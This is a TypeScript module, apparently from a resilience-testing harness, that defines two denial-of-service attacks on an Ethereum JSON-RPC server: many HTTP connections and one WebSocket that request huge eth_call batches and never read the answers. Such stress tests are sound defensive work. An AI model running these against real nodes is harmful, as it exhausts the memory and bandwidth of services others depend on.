import { WebSocket } from 'ws'
import type { Attack } from '../attack.js'
import { callBomb } from '../bombs.js'
import { countEnds, openSockets, postText, rpcText, untilOver } from '../sockets.js'

/** Four answers of 5 MB of hex each. */
function largeBatch(): string {
  const call = rpcText('eth_call', callBomb('returns', 2_500_000))
  return `[${Array(4).fill(call).join(',')}]`
}

/** Clients that ask over HTTP and do not read. */
export const unreadAnswers: Attack = {
  name: 'unread answers',
  what: '100 connections that each ask for four batches of 20 MB and read nothing',
  async run(attacker) {
    const { target, signal, scale } = attacker
    const sockets = await openSockets(attacker, Math.ceil(100 * scale))
    const text = postText(target, largeBatch())
    for (const socket of sockets) {
      socket.pause()
      socket.write(text.repeat(4))
    }
    countEnds(attacker, sockets)
    await untilOver(signal)
    for (const socket of sockets) socket.destroy()
  },
}

/** One WebSocket that asks and does not read. */
export const unreadSocket: Attack = {
  name: 'unread WebSocket',
  what: 'one WebSocket with 256 batches of 20 MB under way that reads nothing',
  async run({ target, signal, count }) {
    const socket = new WebSocket(`ws://${target.host}:${target.port}${target.socketPath}`)
    socket.on('error', () => count('failed'))
    socket.on('close', (code) => {
      if (!signal.aborted) count(`closed with ${code}`)
    })
    socket.on('open', () => {
      socket.pause()
      const text = largeBatch()
      for (let i = 0; i < 256; i++) socket.send(text)
    })
    await untilOver(signal)
    socket.terminate()
  },
}
